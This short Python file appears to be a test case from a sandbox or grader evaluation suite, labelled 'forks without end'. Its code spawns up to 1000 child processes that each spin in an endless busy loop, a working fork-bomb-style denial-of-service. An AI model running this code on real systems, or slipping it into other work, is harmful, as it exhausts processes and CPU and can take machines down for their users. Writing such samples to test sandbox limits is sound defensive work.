# attack: forks without end
# exercises: corr2d
# outcome: full
import os
for _ in range(1000):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break
